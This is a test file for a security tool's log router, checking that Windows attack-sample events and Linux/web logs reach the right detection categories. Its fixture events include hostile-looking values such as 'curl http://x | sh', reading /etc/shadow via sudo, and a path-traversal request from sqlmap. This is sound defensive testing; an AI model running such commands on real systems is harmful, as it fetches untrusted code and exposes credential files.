/**
 * The default routing against real events: the EVTX-ATTACK-SAMPLES corpus (Windows) and loghub
 * samples (Linux), normalised by the real normaliser.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { VigilEvent } from '../../core/index.ts';
import type { Logsource } from '../types.ts';
import { defaultCompiledRouting, logsourceKey, testCondition } from './compile.ts';
import { LOGHUB, WINDOWS_CORPUS, loadLoghub, loadWindowsCorpus, skipUnless, toEvent } from './fixtures.ts';
import { Router, type RouteTarget } from './router.ts';
import { EventContext } from './view.ts';

const routing = defaultCompiledRouting();
/** Every logsource the default configuration names. */
const ALL: Logsource[] = routing.config.logsources.map((l) => ({ product: l.product, category: l.category, service: l.service }));
const router = new Router(routing, ALL);

const target = (e: VigilEvent, key: string): RouteTarget | undefined => router.targets(e).find((t) => t.key === key);
const view = (e: VigilEvent, key: string) => {
  const t = target(e, key);
  assert.ok(t, `event routes to ${key}; got ${router.route(e).join(', ')}`);
  return new EventContext(e).view(t.fields);
};

/** Sysmon EventID → the category keys it must route to. */
const SYSMON_EXPECT: Record<number, string[]> = {
  1: ['windows/process_creation/*'],
  2: ['windows/file_change/*'],
  3: ['windows/network_connection/*'],
  4: ['windows/sysmon_status/*'],
  5: ['windows/process_termination/*'],
  6: ['windows/driver_load/*'],
  7: ['windows/image_load/*'],
  8: ['windows/create_remote_thread/*'],
  10: ['windows/process_access/*'],
  11: ['windows/file_event/*'],
  13: ['windows/registry_set/*', 'windows/registry_event/*'],
  15: ['windows/create_stream_hash/*'],
  16: ['windows/sysmon_status/*'],
  17: ['windows/pipe_created/*'],
  18: ['windows/pipe_created/*'],
  19: ['windows/wmi_event/*'],
  20: ['windows/wmi_event/*'],
  21: ['windows/wmi_event/*'],
  22: ['windows/dns_query/*'],
  23: ['windows/file_delete/*'],
};

describe('default routing on the Windows corpus', { skip: skipUnless(WINDOWS_CORPUS) }, () => {
  const corpus = skipUnless(WINDOWS_CORPUS) ? [] : loadWindowsCorpus();
  const byId = (channel: string, id: number) => corpus.filter((c) => c.raw.Channel === channel && c.raw.EventID === id);

  it('routes a Sysmon 1 event to process_creation, reading Image from event_data', () => {
    const c = byId('Microsoft-Windows-Sysmon/Operational', 1)[0];
    const v = view(c.event, 'windows/process_creation/*');
    assert.equal(v.get('Image'), c.raw.Image);
    assert.equal(v.get('CommandLine'), c.raw.CommandLine);
    assert.equal(v.get('ParentImage'), c.raw.ParentImage);
    assert.equal(v.get('EventID'), '1');
    assert.equal(v.get('Channel'), 'Microsoft-Windows-Sysmon/Operational');
    assert.equal(v.get('Computer'), c.raw.Computer);
    assert.equal(v.get('Provider_Name'), 'Microsoft-Windows-Sysmon');
    assert.ok(v.keywords().includes(c.raw.CommandLine as string));
    assert.equal(v.time(), Date.parse(c.event['@timestamp']));
  });

  it('routes a Security 4688 event to process_creation, reading Image from NewProcessName', () => {
    const events = byId('Security', 4688);
    assert.ok(events.length > 0);
    for (const c of events) {
      assert.deepEqual(router.route(c.event).sort(), ['windows/*/*', 'windows/*/security', 'windows/process_creation/*']);
      const v = view(c.event, 'windows/process_creation/*');
      assert.equal(v.get('Image'), c.raw.NewProcessName);
      assert.equal(v.get('ParentImage'), c.raw.ParentProcessName ?? undefined);
      assert.equal(v.get('ProcessId'), c.raw.NewProcessId);
      assert.equal(v.get('ParentProcessId'), c.raw.ProcessId);
      // The same event seen as a Security service event keeps the Windows names.
      assert.equal(view(c.event, 'windows/*/security').get('Image'), undefined);
      assert.equal(view(c.event, 'windows/*/security').get('NewProcessName'), c.raw.NewProcessName);
    }
  });

  it('routes every Sysmon event to its category (and registry 12 by EventType)', () => {
    for (const c of corpus.filter((x) => x.raw.Channel === 'Microsoft-Windows-Sysmon/Operational')) {
      const keys = router.route(c.event);
      assert.ok(keys.includes('windows/*/*') && keys.includes('windows/*/sysmon'), c.file);
      const id = c.raw.EventID as number;
      const want = id === 12
        ? ['windows/registry_event/*', c.raw.EventType === 'CreateKey' ? 'windows/registry_add/*' : 'windows/registry_delete/*']
        : SYSMON_EXPECT[id];
      assert.ok(want, `EventID ${id} has an expectation`);
      const categories = keys.filter((k) => !k.startsWith('windows/*/'));
      assert.deepEqual(categories.sort(), want.slice().sort(), `${c.file} EventID ${id} ${c.raw.EventType ?? ''}`);
    }
  });

  it('routes the other channels to their services and categories', () => {
    const expect: Array<[string, number, string[]]> = [
      ['Security', 4624, ['windows/*/*', 'windows/*/security']],
      ['System', 7045, ['windows/*/*', 'windows/*/system']],
      ['Application', 1040, ['windows/*/*', 'windows/*/application']],
      ['Microsoft-Windows-Bits-Client/Operational', 59, ['windows/*/*', 'windows/*/bits-client']],
      ['Microsoft-Windows-PowerShell/Operational', 4104, ['windows/*/*', 'windows/*/powershell', 'windows/ps_script/*']],
      ['Microsoft-Windows-PowerShell/Operational', 40961, ['windows/*/*', 'windows/*/powershell']],
      ['Windows PowerShell', 800, ['windows/*/*', 'windows/*/powershell-classic', 'windows/ps_classic_script/*']],
      ['Microsoft-Windows-Windows Defender/Operational', 1116, ['*/antivirus/*', 'windows/*/*', 'windows/*/windefend']],
      ['Microsoft-Windows-Application-Experience/Program-Telemetry', 500, ['windows/*/*', 'windows/*/application-experience']],
      ['Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational', 1149, ['windows/*/*']],
      ['', 6, ['windows/*/*']],
    ];
    for (const [channel, id, keys] of expect) {
      const events = byId(channel, id);
      assert.ok(events.length > 0, `${channel} ${id} present in the corpus`);
      for (const c of events) assert.deepEqual(router.route(c.event).sort(), keys, `${channel} ${id}`);
    }
  });

  it('reads PowerShell script blocks and Defender detections through their mappings', () => {
    const ps = byId('Microsoft-Windows-PowerShell/Operational', 4104)[0];
    assert.equal(view(ps.event, 'windows/ps_script/*').get('ScriptBlockText'), ps.raw.ScriptBlockText);
    const classic = byId('Windows PowerShell', 800)[0];
    assert.deepEqual(view(classic.event, 'windows/ps_classic_script/*').get('Data'), classic.raw.Data);
    const av = byId('Microsoft-Windows-Windows Defender/Operational', 1116)[0];
    const v = view(av.event, '*/antivirus/*');
    assert.equal(v.get('Signature'), av.raw.ThreatName);
    assert.equal(v.get('Filename'), av.raw.Path);
  });

  it('cached routing equals direct evaluation for every corpus event', () => {
    const resolved = ALL.map((s) => ({ key: logsourceKey(s), r: routing.resolve(s) }));
    for (const c of corpus) {
      const direct = new Set<string>();
      for (const { key, r } of resolved) {
        if (r.ok && r.branches.some((b) => b.conditions.every((cond) => testCondition(cond, c.event)))) direct.add(key);
      }
      assert.deepEqual(router.route(c.event).sort(), [...direct].sort(), c.file);
    }
    assert.ok(router.stats().signatures < 200, `few signatures: ${router.stats().signatures}`);
  });
});

describe('default routing on Linux and web events', () => {
  it('routes OpenSSH syslog lines to sshd, auth and syslog', { skip: skipUnless(`${LOGHUB}/OpenSSH`) }, () => {
    const events = loadLoghub('OpenSSH/OpenSSH_2k.log', 200);
    for (const e of events) {
      assert.deepEqual(router.route(e).sort(), ['linux/*/*', 'linux/*/auth', 'linux/*/sshd', 'linux/*/syslog']);
    }
    const invalid = events.find((e) => String(e.message).startsWith('Invalid user'));
    assert.ok(invalid);
    const v = view(invalid, 'linux/*/sshd');
    assert.equal(v.get('User'), (invalid.user as { name: string }).name);
    assert.ok(v.keywords().some((k) => k.includes('Invalid user')));
  });

  it('routes PAM-tagged lines (`su(pam_unix)`) to auth, other programs only to syslog', { skip: skipUnless(`${LOGHUB}/Linux`) }, () => {
    const events = loadLoghub('Linux/Linux_2k.log');
    const app = (e: VigilEvent) => (e.log as { syslog?: { appname?: string } } | undefined)?.syslog?.appname;
    const su = events.find((e) => app(e) === 'su(pam_unix)');
    const ftpd = events.find((e) => app(e) === 'ftpd');
    const sshd = events.find((e) => app(e) === 'sshd(pam_unix)');
    assert.ok(su && ftpd && sshd);
    assert.deepEqual(router.route(su).sort(), ['linux/*/*', 'linux/*/auth', 'linux/*/syslog']);
    assert.deepEqual(router.route(sshd).sort(), ['linux/*/*', 'linux/*/auth', 'linux/*/sshd', 'linux/*/syslog']);
    assert.deepEqual(router.route(ftpd).sort(), ['linux/*/*', 'linux/*/syslog']);
  });

  it('routes a sudo line to sudo, with USER and COMMAND read from the ECS fields', () => {
    const e = toEvent({ kind: 'text', value: 'Mar  3 10:00:00 host sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat /etc/shadow' });
    assert.deepEqual(router.route(e).sort(), ['linux/*/*', 'linux/*/auth', 'linux/*/sudo', 'linux/*/syslog']);
    const v = view(e, 'linux/*/sudo');
    assert.equal(v.get('USER'), 'root');
    assert.equal(v.get('User'), 'alice');
    assert.equal(v.get('COMMAND'), '/bin/cat /etc/shadow');
  });

  it('routes a JSON web access log to webserver with the W3C field names', () => {
    const e = toEvent({
      kind: 'object',
      value: {
        '@timestamp': '2024-02-01T12:00:00Z',
        event: { dataset: 'nginx.access', category: ['web'] },
        source: { ip: '203.0.113.9' },
        http: { request: { method: 'GET', referrer: 'http://x/' }, response: { status_code: 404 } },
        url: { original: '/cgi-bin/../../etc/passwd?x=1', path: '/cgi-bin/../../etc/passwd', query: 'x=1' },
        user_agent: { original: 'sqlmap/1.7' },
      },
    });
    assert.deepEqual(router.route(e).sort(), ['*/*/nginx', '*/webserver/*']);
    const v = view(e, '*/webserver/*');
    assert.equal(v.get('cs-method'), 'GET');
    assert.equal(v.get('c-uri'), '/cgi-bin/../../etc/passwd?x=1');
    assert.equal(v.get('cs-uri-query'), '/cgi-bin/../../etc/passwd?x=1');
    assert.equal(v.get('cs-uri-stem'), '/cgi-bin/../../etc/passwd');
    assert.equal(v.get('c-ip'), '203.0.113.9');
    assert.equal(v.get('sc-status'), 404);
    assert.equal(v.get('cs-user-agent'), 'sqlmap/1.7');
    assert.equal(v.get('cs-referer'), 'http://x/');
  });

  it('routes an Auditbeat execve event to linux process_creation with the ECS process fields', () => {
    const e = toEvent({
      kind: 'object',
      value: {
        '@timestamp': '2024-02-01T12:00:00Z',
        event: { module: 'auditd', action: 'executed', category: ['process'], type: ['start'] },
        host: { os: { type: 'linux' } },
        process: { executable: '/usr/bin/curl', command_line: 'curl http://x | sh', parent: { executable: '/bin/bash' } },
        user: { name: 'bob' },
      },
    });
    assert.deepEqual(router.route(e).sort(), ['linux/*/*', 'linux/*/auditd', 'linux/process_creation/*']);
    const v = view(e, 'linux/process_creation/*');
    assert.equal(v.get('Image'), '/usr/bin/curl');
    assert.equal(v.get('CommandLine'), 'curl http://x | sh');
    assert.equal(v.get('ParentImage'), '/bin/bash');
    assert.equal(v.get('User'), 'bob');
  });
});
